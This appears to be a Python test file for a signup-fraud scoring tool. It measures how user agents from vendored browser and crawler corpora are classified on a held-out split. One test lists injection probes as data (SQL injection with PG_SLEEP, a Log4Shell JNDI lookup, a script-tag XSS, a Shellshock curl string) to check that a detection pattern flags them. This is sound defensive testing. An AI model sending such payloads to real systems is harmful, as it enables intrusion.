"""Issue 17's user-agent thresholds, on the held-out half of corpora kyc was not tuned on
(bench/ua_corpora.py prints both halves of every corpus; the corpora come from installed
packages and files vendored in bench/data/user_agents with their licences)."""

from __future__ import annotations

import pytest

from bench import ua_corpora as corpora


def test_the_split_is_deterministic_and_about_half():
    # (app-clients is drawn from two browser lists by what the strings are, not by the hash: its
    # halves need not be even.)
    for name in (*corpora.BROWSER_CORPORA, *corpora.AUTOMATION_CORPORA):
        agents = corpora.corpus(name)
        held_out = sum(corpora.split_of(ua) == "held_out" for ua in agents)
        assert 0.4 < held_out / len(agents) < 0.6, name
    assert corpora.split_of("curl/8.5.0") == corpora.split_of("curl/8.5.0")


def test_corpora_are_large_enough_to_measure():
    sizes = {name: len(corpora.corpus(name)) for name in (*corpora.BROWSER_CORPORA, *corpora.AUTOMATION_CORPORA)}
    assert sizes["fake-useragent"] > 300 and sizes["crawler-user-agents"] > 2000
    assert sizes["isbot-crawlers"] > 500 and sizes["uap-core-crawlers"] > 200 and sizes["isbot-browsers"] > 450
    assert sizes["device-detector-browsers"] > 30000 and sizes["device-detector-bots"] > 1000
    assert sizes["intoli-browsers"] > 3000
    assert sizes["crawlerdetect-browsers"] > 5000 and sizes["crawlerdetect-crawlers"] > 3500
    assert sizes["top-user-agents-browsers"] > 1500


def test_the_intoli_corpus_is_vendored_with_its_licence_and_without_generated_rows():
    from kyc.simulate import GENERATED_CHROME

    assert "BSD" in (corpora.DATA / "user-agents-LICENSE").read_text(encoding="utf-8")
    lines = (corpora.DATA / "intoli-user-agents.txt").read_text(encoding="utf-8").splitlines()
    agents = [ua for ua in lines if not ua.startswith("#")]
    assert agents == sorted(set(agents)) and not any(GENERATED_CHROME.search(ua) for ua in agents)
    assert set(corpora.corpus("intoli-browsers")) <= set(agents)


def test_the_top_user_agents_corpus_is_vendored_with_its_licence():
    assert "MIT" in (corpora.DATA / "top-user-agents-LICENSE").read_text(encoding="utf-8")
    lines = (corpora.DATA / "top-user-agents.txt").read_text(encoding="utf-8").splitlines()
    agents = [ua for ua in lines if not ua.startswith("#")]
    assert agents == sorted(set(agents)) and set(corpora.corpus("top-user-agents-browsers")) <= set(agents)


def test_what_device_detector_lists_as_a_bot_or_library_is_counted_apart_from_the_browsers():
    named = corpora.named_by_device_detector
    assert named("Dart/3.6 (dart:io)") and named(
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) "
        "Chrome/118.0.5993.70 Safari/537.36")
    assert not named("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                     "Chrome/142.0.0.0 Safari/537.36")
    bots = set(corpora.corpus("browser-lists-bots"))
    assert "Dart/3.6 (dart:io)" in bots and len(bots) > 20
    for name in corpora.BROWSER_CORPORA:
        assert not bots & set(corpora.corpus(name)), name


def test_the_crawlerdetect_sample_is_vendored_with_its_licences_and_drawn_by_hash():
    import hashlib

    licences = (corpora.DATA / "crawlerdetect-LICENSE").read_text(encoding="utf-8")
    assert "Copyright (c) 2019 Vitalii Shishorin" in licences and "Copyright (c) 2015-2018 Mark Beech" in licences
    lines = (corpora.DATA / "crawlerdetect-devices-sample.txt").read_text(encoding="utf-8").splitlines()
    assert lines == sorted(set(lines))
    assert all(hashlib.sha256(ua.encode()).digest()[1] % 32 == 0 for ua in lines)


def test_apps_own_clients_are_counted_apart_from_the_browsers_they_were_listed_with():
    apps = set(corpora.corpus("app-clients"))
    assert len(apps) > 50
    assert not apps & set(corpora.corpus("isbot-browsers")) and not apps & set(corpora.corpus("uap-core-browsers"))
    assert "Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0" in apps
    assert corpora.NOT_A_BROWSER.search("Hulu/6.8.1 (iOS 13.3; en_US; iPhone12,1; 17C54)")
    # probes by their injection syntax, whatever they inject
    for probe in ("LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--", "${jndi:ldap://198.51.100.7:1389/a}",
                  "Mozilla/5.0 <script>alert(1)</script>", "() { :; }; $(curl x)"):
        assert corpora.NOT_A_BROWSER.search(probe), probe
    # In-app browsers render pages: they stay browsers.
    assert not corpora.NOT_A_BROWSER.search(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 [FBAN/FBIOS;FBAV/500.0.0.40.95;FBBV/700000000;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS]")


def test_groups_isbot_heads_as_bots_are_counted_apart_from_its_browsers():
    bots = set(corpora.corpus("isbot-labelled-bots"))
    assert 5 <= len(bots) <= 20
    assert not bots & set(corpora.corpus("isbot-browsers")) and not bots & set(corpora.corpus("app-clients"))
    assert corpora.ISBOT_LABELLED_BOTS.search("ZZZ Insignificat bots - Crosswalk project (deprecated)")
    assert not corpora.ISBOT_LABELLED_BOTS.search("ZZZ Miscellaneous Browsers - These browsers are not bots, but ..")


@pytest.mark.parametrize("name", ["fake-useragent", "device-detector-browsers", "crawlerdetect-browsers",
                                  "intoli-browsers", "top-user-agents-browsers"])
def test_real_browsers_on_clean_signups_are_allowed_on_the_held_out_split(name):
    measured = corpora.measure(name, "held_out")
    assert measured["n"] > 150
    assert measured["share"] <= corpora.MAX_BROWSERS_NOT_ALLOWED, measured["reasons"]   # figures, not strings


@pytest.mark.parametrize("name", corpora.AUTOMATION_CORPORA)
def test_real_automation_is_not_allowed_on_the_held_out_split(name):
    measured = corpora.measure(name, "held_out")
    assert measured["n"] > 100
    assert measured["share"] >= corpora.MIN_AUTOMATION_NOT_ALLOWED, name


def test_apps_own_clients_are_not_allowed_on_the_held_out_split():
    measured = corpora.measure("app-clients", "held_out")
    assert measured["n"] > 20
    assert measured["share"] >= corpora.MIN_AUTOMATION_NOT_ALLOWED


def test_a_corpus_user_agent_is_scored_by_the_shipped_rules():
    assert corpora.decision(corpora.corpus("fake-useragent")[0])[0] in ("allow", "verify", "review", "block")
    assert corpora.decision("curl/8.5.0") == ("block", ["automation_user_agent"])
    verdict, hits = corpora.decision("${jndi:ldap://198.51.100.7:1389/a}")
    assert verdict == "verify" and hits == ["unrecognised_user_agent"]


def test_strings_no_client_sent_as_written_are_set_apart_or_read_back():
    # cut before its start: set apart from the browsers, counted on their own
    cut = ("Android 11) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/86.0.4240.185 Mobile "
           "DuckDuckGo/5 Safari/537.36")
    assert corpora.CUT.search(cut) and cut in corpora.corpus("cut-strings")
    assert cut not in corpora.corpus("isbot-browsers")
    assert not corpora.CUT.search("Mozilla/5.0 (Linux; Android 11) AppleWebKit/537.36 (KHTML, like Gecko)")
    assert corpora.CUT.search("AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/118.0.0.0 Mobile "
                              "DuckDuckGo/5 Safari/537.36")
    # a web server log's form (spaces as '+') is scored as the header was sent
    sent = ("Mozilla/5.0 (iPad; CPU OS 9_3_1 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 "
            "Mobile/13E238 Safari/601.1")
    assert corpora.decision(sent.replace(" ", "+")) == corpora.decision(sent) == ("allow", [])
